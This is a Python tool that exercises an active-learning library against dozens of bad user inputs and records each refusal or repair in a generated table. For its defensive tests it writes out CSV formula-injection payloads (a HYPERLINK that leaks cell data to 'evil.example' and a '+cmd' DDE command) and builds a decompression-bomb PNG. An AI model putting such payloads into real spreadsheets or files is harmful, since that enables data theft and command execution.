"""Every bad input a new user met, and the exact line the project prints for it now.

    python tools/bad_inputs.py            # writes docs/BAD_INPUTS.md
    python tools/bad_inputs.py --check    # regenerates and compares (tests/test_bad_inputs.py)

Each case does what a user did (a command line, a library call, a damaged workdir) in a
scratch folder, and records the outcome: *refused* (one line, before any work; from the
command line exit status 2), *repaired* (the run said what it fixed and went on), or
*handled*. The table is generated, never typed: paths, process ids and times are replaced
by placeholders so that it is the same on every machine.
"""

from __future__ import annotations

import argparse
import contextlib
import dataclasses
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Callable

import numpy as np

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from lookahead_jax import (data, loop, models, oracles, records,  # noqa: E402
                          strategies, train)

OUT = REPO / "docs" / "BAD_INPUTS.md"


@dataclasses.dataclass
class Case:
    group: str
    what: str
    run: Callable[[Path], tuple]      # scratch -> (outcome, message, exit status or None)
    # Only starts ``python -m experiments.main`` and waits for it: such cases run side by
    # side in threads (each its own process) while the library cases run here, in turn
    # (those patch os.fsync/os.access or take a workdir lock in this process, so they stay
    # out of the threads).
    process: bool = False


def _tiny(n_train=160, seed=0):
    rng = np.random.default_rng(seed)
    x = rng.normal(size=(n_train + 40, 4, 4, 1)).astype(np.float32)
    y = (x[:, 0, 0, 0] > 0).astype(np.int32) + 2 * (x[:, 1, 1, 0] > 0)
    return data.Dataset("tiny", x[:n_train], y[:n_train], x[n_train:], y[n_train:], 4)


def _config(**kw):
    base = dict(dataset="digits", model="mlp", model_kwargs=(("widths", (16,)),),
                strategy="margin", cycles=3, initial_size=20, query_size=6, subset_size=40,
                seed=1, train=train.TrainConfig(epochs=2, batch_size=16))
    base.update(kw)
    return loop.LoopConfig(**base)


def _quiet(**kw):
    return loop.run(_config(**kw.pop("config", {})), kw.pop("workdir"), dataset=_tiny(),
                    log=lambda s: None, **kw)


def api(fn) -> tuple:
    """Calls ``fn``; a refusal is the exception's one line."""
    try:
        fn()
    except Exception as e:  # noqa: BLE001  (the table records whatever is raised)
        msg = str(e)
        return ("refused" if "\n" not in msg else "refused (several lines)",
                f"{type(e).__name__}: {msg}", None)
    return "accepted", "", None


CLI_ARGS = ("--cycles=2", "--initial_size=20", "--query_size=5", "--subset_size=40",
            "--epochs=1", "--strategy=random")


def cli(*args, scratch: Path, wait_for: str = "", interrupt: int = 0) -> tuple:
    """``python -m experiments.main`` with ``args``; returns the last stderr line. With
    ``interrupt`` (a signal number) that signal is sent once ``wait_for`` exists."""
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    proc = subprocess.Popen([sys.executable, "-m", "experiments.main", *args], cwd=REPO,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    if interrupt:
        deadline = time.time() + 300
        while time.time() < deadline and not (scratch / wait_for).exists():
            time.sleep(0.2)
        proc.send_signal(interrupt)
    out, err = proc.communicate(timeout=900)
    if "Traceback" in err:
        return "TRACEBACK", err.strip().splitlines()[-1], proc.returncode
    lines = [ln for ln in err.strip().splitlines() if ln.strip()]
    if proc.returncode == 0:
        said = [ln for ln in out.splitlines()
                if ln.startswith(("repaired", "resuming")) or "batch_size" in ln]
        return "handled", " / ".join(said) or "ran", 0
    outcome = "stopped" if interrupt and proc.returncode == 128 + interrupt else "refused"
    return outcome, lines[-1] if len(lines) == 1 else " / ".join(lines), proc.returncode


def finished_run(scratch: Path) -> Path:
    """A finished 3-cycle run (made through the library once, beside the cases' scratch
    folders, and copied for each case)."""
    w = scratch.parent / "finished"
    if not w.exists():
        _quiet(workdir=str(w))
    return w


def damaged(scratch: Path, damage: Callable[[Path], None], **kw) -> tuple:
    w = scratch / "damaged"
    shutil.copytree(finished_run(scratch), w, ignore=shutil.ignore_patterns(".lock"))
    damage(w)
    return api(lambda: _quiet(workdir=str(w), **kw))


def _edit(path: Path, n: int, fn) -> None:
    rows = [json.loads(x) for x in path.read_text().splitlines()]
    rows[n] = fn(rows[n])
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))


def _ctx(**change):
    m = models.get_model("mlp", 4, widths=(8,))
    v = m.init(__import__("jax").random.key(0), np.zeros((1, 4, 4, 1), np.float32))
    ds = _tiny()
    ctx = strategies.AcquisitionContext(model=m, params=v.params, state=v.state,
                                        x_labeled=ds.x_train[:10], y_labeled=ds.y_train[:10],
                                        x_candidates=ds.x_train[10:30], num_classes=4,
                                        query_size=5, key=__import__("jax").random.key(1))
    return dataclasses.replace(ctx, **change)


def _oracle(answer):
    calls = []

    def oracle(idx):
        calls.append(1)
        return _tiny().y_train[idx] if len(calls) == 1 else answer(len(idx))
    return oracle


def _ntk_x_nan():
    x = _tiny().x_train[:10].copy()
    x[3, 0, 0, 0] = np.nan
    return x


def _no_space(scratch: Path) -> tuple:
    """A full disk while the records are written: the command line's line."""
    from absl import flags

    from lookahead_jax import cli as cli_main

    w = scratch / "full"
    real = os.fsync
    err = io.StringIO()
    code = None
    try:
        flags.FLAGS.unparse_flags()
        flags.FLAGS(["lookahead-jax", *CLI_ARGS, f"--workdir={w}"])

        def no_space(fd):
            raise OSError(28, "No space left on device")
        os.fsync = no_space
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            cli_main.main(["lookahead-jax"])
    except SystemExit as e:
        code = e.code
    finally:
        os.fsync = real
        flags.FLAGS.unparse_flags()
    partial = [p.name for p in w.rglob(".*.tmp")]
    line = err.getvalue().strip().splitlines()[-1] if err.getvalue().strip() else ""
    return ("refused" if code else "accepted") + ("" if not partial else " (partial files!)"), \
        line, code


def cases() -> list[Case]:
    c = []
    add = lambda group, what, fn: c.append(Case(group, what, fn))  # noqa: E731
    add_cli = lambda group, what, fn: c.append(Case(group, what, fn, process=True))  # noqa
    W = "--workdir={}"

    # --- the workdir itself
    add_cli("workdir", "`--workdir` is a file",
            lambda s: (s.joinpath("f").write_text("x"),
                       cli(*CLI_ARGS, W.format(s / "f"), scratch=s))[1])
    add_cli("workdir", "`--workdir` is under a file",
            lambda s: (s.joinpath("f").write_text("x"),
                       cli(*CLI_ARGS, W.format(s / "f" / "run"), scratch=s))[1])
    add_cli("workdir", "`--workdir` cannot be created (`/proc/...`)",
            lambda s: cli(*CLI_ARGS, "--workdir=/proc/lookahead_run", scratch=s))
    add("workdir", "a read-only workdir (as a user; root may write anywhere)",
        lambda s: _readonly(s))
    add("workdir", "the disk fills up while records are written", _no_space)
    add("workdir", "two processes on one workdir", lambda s: _two_processes(s))
    for what, sig in (("Ctrl-C during a run", signal.SIGINT),
                      ("SIGTERM during a run (a scheduler's stop, a preemption)",
                       signal.SIGTERM)):
        add_cli("workdir", what,
                lambda s, sig=sig: cli("--strategy=random", "--cycles=6", "--initial_size=30",
                                       "--query_size=10", "--subset_size=100", "--epochs=30",
                                       W.format(s / "c"), scratch=s,
                                       wait_for="c/random/state.json", interrupt=sig))
    # --- damaged or edited records
    add("records", "`state.json` lacks a key", lambda s: damaged(
        s, lambda w: records.atomic_write_json(str(w / "state.json"), {"cycle_done": 2})))
    add("records", "`state.json` says `cycle_done: 99` for a 3-cycle run", lambda s: damaged(
        s, lambda w: records.atomic_write_json(str(w / "state.json"), {
            **records.read_json(str(w / "state.json")), "cycle_done": 99})))
    add("records", "the checkpoint was deleted", lambda s: damaged(
        s, lambda w: shutil.rmtree(w / "checkpoints" / "2"), config=dict(cycles=4)))
    add("records", "`metrics.jsonl` was deleted", lambda s: damaged(
        s, lambda w: os.unlink(w / "metrics.jsonl")))
    add("records", "`labels.jsonl` was deleted", lambda s: damaged(
        s, lambda w: os.unlink(w / "labels.jsonl")))
    add("records", "a label in `labels.jsonl` was edited", lambda s: damaged(
        s, lambda w: _edit(w / "labels.jsonl", 4, lambda r: {**r, "label": (r["label"] + 1)
                                                             % 4})))
    add("records", "rows of `labels.jsonl` were deleted", lambda s: damaged(
        s, lambda w: (w / "labels.jsonl").write_text(
            "".join((w / "labels.jsonl").read_text().splitlines(True)[:25]))))
    add("records", "`queries.jsonl` holds an out-of-range index (edited)", lambda s: damaged(
        s, lambda w: _edit(w / "queries.jsonl", 0, lambda r: {**r, "indices": [
            10 ** 6] + r["indices"][1:]})))
    add("records", "`queries.jsonl` and `labels.jsonl` disagree (a query label edited)",
        lambda s: damaged(s, lambda w: _edit(w / "queries.jsonl", 1, lambda r: {
            **r, "labels": [(y + 1) % 4 for y in r["labels"]]})))
    add("records", "`config.json` is not JSON", lambda s: damaged(
        s, lambda w: (w / "config.json").write_text("{oops")))
    add("records", "a torn last line in `metrics.jsonl` (a crash mid-append)",
        lambda s: _torn(s, "metrics"))
    add("records", "a torn last line in `queries.jsonl`", lambda s: _torn(s, "queries"))
    add("records", "`--cycles` grows on a finished run (allowed: it extends the run)",
        lambda s: _extend(s))
    # --- flags and settings
    add_cli("flags", "a flag that does not parse (`--cycles=abc`)",
            lambda s: cli("--cycles=abc", W.format(s / "r"), scratch=s))
    add_cli("flags", "`--seed=-1`", lambda s: cli("--seed=-1", W.format(s / "r"), scratch=s))
    add_cli("flags", "`--learning_rate=inf`",
            lambda s: cli("--learning_rate=inf", W.format(s / "r"), scratch=s))
    add_cli("flags", "a misspelled strategy option (`--config.strategy_options.jiter=1e-4`)",
            lambda s: cli("--strategy=mlmoc", "--config.strategy_options.jiter=1e-4",
                          W.format(s / "r"), scratch=s))
    add_cli("flags", "`--batch_size=1000000`",
            lambda s: cli(*CLI_ARGS, "--batch_size=1000000", W.format(s / "r"), scratch=s))
    add_cli("flags", "`--strategy=random,random`",
            lambda s: cli("--strategy=random,random", W.format(s / "r"), scratch=s))
    # --- the library API
    add("api", "`LoopConfig(cycles=\"3\")`", lambda s: api(lambda: _config(cycles="3")))
    add("api", "an oracle that returns `None`",
        lambda s: api(lambda: _quiet(workdir=None, oracle=_oracle(lambda n: None))))
    add("api", "an oracle that answers 42 (of 4 classes)",
        lambda s: api(lambda: _quiet(workdir=None, oracle=_oracle(lambda n: [42] * n))))
    add("api", "an oracle that answers -1",
        lambda s: api(lambda: _quiet(workdir=None, oracle=_oracle(lambda n: [-1] * n))))
    add("api", "an oracle that answers floats (1.5)",
        lambda s: api(lambda: _quiet(workdir=None, oracle=_oracle(lambda n: [1.5] * n))))
    add("api", "uint8 images (0-255) in a `Dataset`",
        lambda s: api(lambda: data.validate_dataset(_tiny()._replace(
            x_train=np.zeros((160, 4, 4, 1), np.uint8)))))
    add("api", "`num_classes=1`",
        lambda s: api(lambda: data.validate_dataset(_tiny()._replace(num_classes=1))))
    add("api", "every label identical",
        lambda s: api(lambda: loop.run(_config(), None, dataset=_tiny()._replace(
            y_train=np.zeros(160, np.int32)), log=lambda m: None)))
    add("strategy API", "NaN in the labeled inputs",
        lambda s: api(lambda: strategies.get("mlmoc")(_ctx(x_labeled=_ntk_x_nan()))))
    add("strategy API", "labels outside [0, C)",
        lambda s: api(lambda: strategies.get("mlmoc")(_ctx(y_labeled=np.full(10, 7)))))
    add("strategy API", "an empty candidate set",
        lambda s: api(lambda: strategies.get("mlmoc")(_ctx(
            x_candidates=np.zeros((0, 4, 4, 1), np.float32)))))
    add("strategy API", "`query_size` larger than the candidates",
        lambda s: api(lambda: strategies.get("mlmoc")(_ctx(query_size=21))))
    add("strategy API", "sequential mode, `query_size` larger than the candidates",
        lambda s: api(lambda: strategies.get("mlmoc")(_ctx(query_size=21,
                                                           label_fn=lambda j: 0))))
    add("strategy API", "sequential mode, one NaN candidate",
        lambda s: api(lambda: strategies.get("mlmoc")(_ctx(
            x_candidates=_ntk_x_nan(), label_fn=lambda j: 0))))
    _hostile_cases(add, add_cli)
    return c


# ----------------------------------------------------------------------------- issue 26


def _arrays(n=30, seed=0):
    rng = np.random.default_rng(seed)
    return rng.normal(size=(n, 4)).astype(np.float32), np.arange(n) % 3


def _npz(scratch: Path, name: str, content: bytes | None = None, **arrays) -> str:
    path = scratch / name
    if content is not None:
        path.write_bytes(content)
    else:
        np.savez(path, **arrays)
    return f"npz:{path}"


def _good_npz() -> bytes:
    buf = io.BytesIO()
    x, y = _arrays()
    np.savez(buf, x=x, y=y)
    return buf.getvalue()


def _crc_flipped() -> bytes:
    b = bytearray(_good_npz())
    b[bytes(b).index(b"\x93NUMPY") + 200] ^= 0xFF
    return bytes(b)


def _huge_header() -> bytes:
    import zipfile

    header, out = io.BytesIO(), io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False,
                                                  "shape": (120_000_000_000,)})
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("x.npy", header.getvalue() + b"\0" * 64)
    return out.getvalue()


def _pickled() -> bytes:
    buf = io.BytesIO()
    np.savez(buf, x=_arrays()[0], class_names=np.array(["a", None, "c"], dtype=object))
    return buf.getvalue()


def _images(root: Path, classes=("a", "b"), n=3, size=8, seed=0) -> Path:
    from PIL import Image

    rng = np.random.default_rng(seed)
    for c in classes:
        (root / c).mkdir(parents=True, exist_ok=True)
        for i in range(n):
            Image.fromarray(rng.integers(0, 256, (size, size), dtype=np.uint8)).save(
                root / c / f"{i}.png")
    return root


def _png_header(width: int, height: int) -> bytes:
    import struct
    import zlib

    def chunk(tag, body):
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I",
                                                                       zlib.crc32(tag + body))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8,
                                                              0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))


def _folder_case(scratch: Path, damage: Callable[[Path], None]) -> tuple:
    root = _images(scratch / "pics")
    damage(root)
    return api(lambda: data.load_folder(str(root)))


def _truncate_image(root: Path) -> None:
    from PIL import Image

    Image.fromarray(np.random.default_rng(1).integers(0, 256, (64, 64), dtype=np.uint8)).save(
        root / "b" / "cut.png")
    whole = (root / "b" / "cut.png").read_bytes()
    (root / "b" / "cut.png").write_bytes(whole[:len(whole) // 2])


def _link_outside(root: Path) -> None:
    elsewhere = _images(root.parent / "elsewhere", seed=1)
    (root / "unlabeled").mkdir()
    os.symlink(elsewhere / "a", root / "unlabeled" / "more")


def _link_twice(root: Path) -> None:
    (root / "unlabeled").mkdir()
    os.symlink("../a", root / "unlabeled" / "again")


def _tool_files(scratch: Path) -> tuple:
    root = _images(scratch / "pics")
    (root / ".ipynb_checkpoints").mkdir()
    (root / "a" / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    (root / "__MACOSX" / "a").mkdir(parents=True)
    (root / "__MACOSX" / "a" / "._0.png").write_bytes(b"\0\5\26\7 not a png")
    ds = data.load_folder(str(root))
    return "handled", f"{' / '.join(ds.notes)} (classes {', '.join(ds.class_names)})", None


def _sixteen_bit(scratch: Path) -> tuple:
    from PIL import Image

    root = scratch / "pics"
    raw = np.random.default_rng(2).integers(0, 65536, (4, 8, 8)).astype(np.uint16)
    for k, c in enumerate(("a", "b")):
        (root / c).mkdir(parents=True)
        for i in range(2):
            Image.fromarray(raw[2 * k + i]).save(root / c / f"{i}.png")
    ds = data.load_folder(str(root))
    x = ds.x_train.ravel()
    order = np.corrcoef(x, raw.ravel().astype(np.float64))[0, 1]
    return "handled", (f"{Image.open(root / 'a' / '0.png').mode} images scaled by 65535: "
                       f"{len(np.unique(x))} distinct values of {x.size} pixels, correlation "
                       f"with the stored values {order:.6f}"), None


def _exif(scratch: Path) -> tuple:
    from PIL import Image

    img = np.random.default_rng(3).integers(0, 256, (8, 8), dtype=np.uint8)
    pools = []
    for name, rotated in (("exif", False), ("twin", True)):
        root = _images(scratch / name)
        if rotated:
            Image.fromarray(np.rot90(img, -1).copy()).save(root / "a" / "z.png")
        else:
            im = Image.fromarray(img)
            exif = im.getexif()
            exif[0x0112] = 6
            im.save(root / "a" / "z.png", exif=exif.tobytes())
        pools.append(data.load_folder(str(root)).x_train)
    same = np.array_equal(pools[0], pools[1])
    return "handled", ("an image with EXIF orientation 6 (turn 90° clockwise to view) is "
                       f"decoded as a viewer shows it: {'equal' if same else 'NOT equal'} to "
                       "the same picture stored turned"), None


def _request_cells(scratch: Path) -> tuple:
    import csv

    items = ['=HYPERLINK("http://evil.example/?"&A1,"open").png', "+cmd|' /C calc'!A0.png"]
    o = oracles.FileOracle(str(scratch / "w"), items, 2, ("cat", "dog"))
    try:
        o.ask(np.arange(2), "cycle_0")
    except oracles.LabelsNeeded as need:
        with open(need.request, newline="") as fh:
            cells = [r[1] for r in list(csv.reader(fh))[1:]]
    back = [oracles.restore(c) for c in cells] == items
    return "handled", (f"to_label/cycle_0.csv holds {cells[0]} and {cells[1]} (text, not "
                       f"formulas); read back: {'unchanged' if back else 'CHANGED'}"), None


def _huge_field(scratch: Path) -> tuple:
    path = scratch / "labels.csv"
    path.write_text("index,label\n0," + "x" * (100 << 20) + "\n")
    return api(lambda: oracles.read_label_file(str(path), [0], 3, ("cat", "dog", "fish")))


def _numeric_names(scratch: Path) -> tuple:
    path = scratch / "labels.csv"
    path.write_text("index,label\n4,2\n5,0\n")
    return api(lambda: oracles.read_label_file(str(path), [4, 5], 3, ("1", "2", "3")))


def _corrected(scratch: Path) -> tuple:
    o = oracles.FileOracle(str(scratch), [f"{i}.png" for i in range(6)], 2, ("cat", "dog"))
    (scratch / "labels").mkdir()
    (scratch / "labels" / "cycle_0.csv").write_text("index,label\n1,dog\n2,dog\n")
    notes = o.changed_answers({1: 0, 2: 1})
    return "handled", " / ".join(notes) or "(nothing said)", None


def _pool_edited(scratch: Path) -> tuple:
    x, y = _arrays(60)
    given = np.where(np.arange(60) < 20, y, -1)
    w = str(scratch / "w")
    cfg = dict(strategy="random", oracle="files", cycles=3, initial_size=20, query_size=5,
               subset_size=20)
    try:
        loop.run(_config(**cfg), w, dataset=data.from_arrays(x, given), log=lambda s: None)
    except oracles.LabelsNeeded:
        pass
    given[25] = 1                          # labeled in the pool while the request is out
    return api(lambda: loop.run(_config(**cfg), w, dataset=data.from_arrays(x, given),
                                log=lambda s: None))


def _liar(out):
    import jax.numpy as jnp

    def f(p, x):
        return out(x.reshape(x.shape[0], -1) @ p["w"])
    return models.from_function(f, params={"w": jnp.ones((16, 4)) / 16}, name="liar",
                                embed=lambda p, x: x.reshape(x.shape[0], -1))


def _liar_ctx(out, **change):
    import jax.numpy as jnp

    ds = _tiny()
    return dataclasses.replace(strategies.AcquisitionContext(
        model=_liar(out), params={"w": jnp.ones((16, 4)) / 16}, x_labeled=ds.x_train[:10],
        y_labeled=ds.y_train[:10], x_candidates=ds.x_train[10:30], num_classes=4,
        query_size=5, key=__import__("jax").random.key(1)), **change)


def _coreset_empty(scratch: Path) -> tuple:
    ds = _tiny()
    sel = strategies.get("coreset")(_liar_ctx(lambda z: z, x_labeled=ds.x_train[:0],
                                              y_labeled=np.zeros(0, np.int32),
                                              labeled_capacity=10))
    return "handled", f"picked candidates {sel.indices.tolist()} (k-center greedy from none)", \
        None


def _nan_model(scratch: Path) -> tuple:
    import jax.numpy as jnp

    model = _liar(lambda z: jnp.where(z[:, :1] > 0, jnp.nan, z))
    ds = _tiny()
    cfg = train.TrainConfig(epochs=1, batch_size=16)
    state = train.create_train_state(model, model.init(__import__("jax").random.key(0),
                                                       ds.x_train[:1]), cfg)
    return api(lambda: train.fit(state, ds.x_train[:32], ds.y_train[:32], cfg,
                                 key=__import__("jax").random.key(1)))


def _hostile_cases(add, add_cli) -> None:
    W = "--workdir={}"
    # --- a user's own archives
    for what, content in (("a truncated .npz", lambda: _good_npz()[:700]),
                          ("an .npz with a bad CRC", _crc_flipped),
                          ("a zero-byte .npz", lambda: b""),
                          ("an .npy header that claims 480 GB", _huge_header),
                          ("a text file named .npz", lambda: b"index,label\n0,cat\n"),
                          ("an .npz holding an object (pickled) array", _pickled)):
        add("archives", what, lambda s, content=content: api(lambda: data.load_dataset(
            _npz(s, "pool.npz", content()))))
    add("archives", "a 0-d `x`", lambda s: api(lambda: data.load_dataset(
        _npz(s, "pool.npz", x=np.float32(3)))))
    add("archives", "`x_test` examples shaped unlike `x`'s", lambda s: api(
        lambda: data.load_dataset(_npz(s, "pool.npz", x=_arrays()[0], y=_arrays()[1],
                                       x_test=np.zeros((5, 3)), y_test=np.zeros(5, int)))))
    add("archives", "one stray label 7 among classes 0-2 (no `class_names`)", lambda s: api(
        lambda: data.load_dataset(_npz(s, "pool.npz", x=_arrays()[0],
                                       y=np.r_[_arrays()[1][:29], 7]))))
    # --- image folders
    add("images", "a decompression bomb (a 20000x20000 PNG)", lambda s: _folder_case(
        s, lambda r: (r / "b" / "bomb.png").write_bytes(_png_header(20000, 20000))))
    add("images", "a truncated image", lambda s: _folder_case(s, _truncate_image))
    add("images", "a symlinked folder in `unlabeled/` that leads outside the pool",
        lambda s: _folder_case(s, _link_outside))
    add("images", "an image reached twice through a symlink inside the pool",
        lambda s: _folder_case(s, _link_twice))
    add("images", "hidden and tool files (`.DS_Store`, `.ipynb_checkpoints`, `__MACOSX`)",
        _tool_files)
    add("images", "16-bit greyscale PNGs (`I;16`)", _sixteen_bit)
    add("images", "an EXIF-rotated photo", _exif)
    add_cli("images", "`--workdir` inside the image folder", lambda s: cli(
        f"--dataset=folder:{_images(s / 'pics')}", "--oracle=files", *CLI_ARGS[:4],
        W.format(s / "pics" / "runs"), scratch=s))
    # --- label files and requests
    add("labels", "an item named `=HYPERLINK(...)` or `+cmd\|...` in a request", _request_cells)
    add("labels", "a 100 MB field in a label file", _huge_field)
    add("labels", "class folders `1/ 2/ 3/` and the label `0`", _numeric_names)
    add("labels", "a label file corrected after it was read", _corrected)
    add("labels", "the pool's labels edited while a request is out", _pool_edited)
    # --- models that lie, numbers that are NaN
    for what, out in (("`apply` returns C - 1 columns", lambda z: z[:, :3]),
                      ("`apply` returns `(n,)`", lambda z: z[:, 0]),
                      ("`apply` returns one row for any batch",
                       lambda z: z.mean(0, keepdims=True))):
        add("models", what, lambda s, out=out: api(lambda: loop.run(
            _config(strategy="entropy"), None, dataset=_tiny(), model=_liar(out),
            log=lambda m: None)))
    add("models", "strategy API: `num_classes` unlike the model's outputs", lambda s: api(
        lambda: strategies.get("mlmoc")(dataclasses.replace(_liar_ctx(lambda z: z),
                                                            num_classes=5))))
    add("models", "strategy API: core-set with an empty labeled set", _coreset_empty)
    add("models", "a model whose outputs are NaN", _nan_model)
    add_cli("flags", "`--max_train` below `--initial_size`",
            lambda s: cli("--max_train=10", "--initial_size=20", W.format(s / "r"), scratch=s))
    # --- config files (Python, run as the user) and flags past their range
    for what, name, text in (
            ("does not exist", "missing.py", None),
            ("is a folder", "configs", "DIR"),
            ("is a .yaml file", "run.yaml", "strategy: mlmoc\n"),
            ("has a syntax error", "syntax.py", "def get_config(:\n"),
            ("raises", "raises.py", "def get_config():\n    raise RuntimeError('no')\n"),
            ("has no `get_config`", "none.py", "X = 1\n"),
            ("returns None", "returns_none.py", "def get_config():\n    return None\n")):
        add("config files", f"a `--config` file that {what}",
            lambda s, name=name, text=text: api(lambda: _config_file(s, name, text)))
    add("flags", "`seed` beyond 64 bits (library)", lambda s: api(
        lambda: _config(seed=2 ** 64)))
    add_cli("flags", "`--seed` beyond 64 bits",
            lambda s: cli(f"--seed={2 ** 64}", W.format(s / "r"), scratch=s))
    add_cli("flags", "`--config.model_kwargs.widths=abc`",
            lambda s: cli("--config.model_kwargs.widths=abc", W.format(s / "r"), scratch=s))


def _config_file(scratch: Path, name: str, text) -> None:
    """``--config=SCRATCH/name`` as the command line reads it (``text`` None: no file)."""
    from lookahead_jax import cli as cli_lib
    path = scratch / name
    if text == "DIR":
        path.mkdir()
    elif text is not None:
        path.write_text(text)
    cli_lib.load_config_file(str(path), argv=[])


def _readonly(scratch: Path) -> tuple:
    real = os.access
    os.access = lambda path, mode: False if str(path).endswith("ro") else real(path, mode)
    try:
        return api(lambda: _quiet(workdir=str(scratch / "ro")))
    finally:
        os.access = real


def _two_processes(scratch: Path) -> tuple:
    from lookahead_jax.workdir import Workdir

    w = scratch / "busy"
    with Workdir.open(str(w / "random")):
        return cli(*CLI_ARGS, f"--workdir={w}", scratch=scratch)


def _torn(scratch: Path, name: str) -> tuple:
    w = scratch / "torn"
    _quiet(workdir=str(w), stop_after_cycle=0)
    with open(w / f"{name}.jsonl", "a") as fh:
        fh.write('{"cycle": 1, "ind')
    notes = []
    loop.run(_config(), str(w), dataset=_tiny(), log=notes.append)
    said = [n for n in notes if n.startswith("repaired")]
    return "repaired", said[0] if said else "(nothing said)", None


def _extend(scratch: Path) -> tuple:
    w = scratch / "ext"
    _quiet(workdir=str(w))
    res = _quiet(workdir=str(w), config=dict(cycles=5))
    return "handled", f"ran to {len(res.metrics)} cycles (config.json now says cycles 5)", None


def normalise(text: str, scratch: Path) -> str:
    text = text.replace(str(scratch), "SCRATCH").replace(str(REPO), "REPO")
    text = re.sub(r"process \d+ on \S+ \(since [^)]*\)", "process PID on HOST (since TIME)",
                  text)
    text = re.sub(r"\(\d+ bytes of an append", "(N bytes of an append", text)
    return text.replace("|", "\\|")


def build() -> str:
    lines = ["# Bad inputs, and what the project says", "",
             "Generated by `python tools/bad_inputs.py` (kept in step by "
             "`tests/test_bad_inputs.py`). Each row does what a user did, in a scratch "
             "folder (`SCRATCH`). *refused*: one line, before any work (exit status 2 from "
             "the command line); *repaired*: the run said what it fixed and went on; "
             "*handled*: it did what was asked; *stopped*: a signal ended the run, and one "
             "line says what was kept (exit status 128 + the signal's number). No row is a "
             "traceback or a silent acceptance.", "",
             "| # | input | outcome | exit | message |", "|---|---|---|---|---|"]
    with tempfile.TemporaryDirectory() as tmp, ThreadPoolExecutor(3) as pool:
        todo = []
        for n, case in enumerate(cases(), start=1):
            scratch = Path(tmp) / f"case{n}"
            scratch.mkdir()
            todo.append((n, case, scratch))
        started = {n: pool.submit(case.run, scratch) for n, case, scratch in todo
                   if case.process}
        results = {n: case.run(scratch) for n, case, scratch in todo if not case.process}
        results.update((n, job.result()) for n, job in started.items())
        for n, case, scratch in todo:
            outcome, message, code = results[n]
            code = "" if code is None else str(code)
            lines.append(f"| {n} | {case.group}: {case.what} | {outcome} | {code} | "
                         f"{normalise(message, scratch)} |")
    return "\n".join(lines) + "\n"


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true", help="compare with docs/BAD_INPUTS.md")
    ap.add_argument("--out", default=str(OUT))
    args = ap.parse_args()
    text = build()
    if args.check:
        old = Path(args.out).read_text() if Path(args.out).exists() else ""
        if old != text:
            sys.stdout.write(text)
            sys.exit(f"{args.out} is out of date: run python tools/bad_inputs.py")
        return
    Path(args.out).write_text(text)
    print(args.out)


if __name__ == "__main__":
    main()
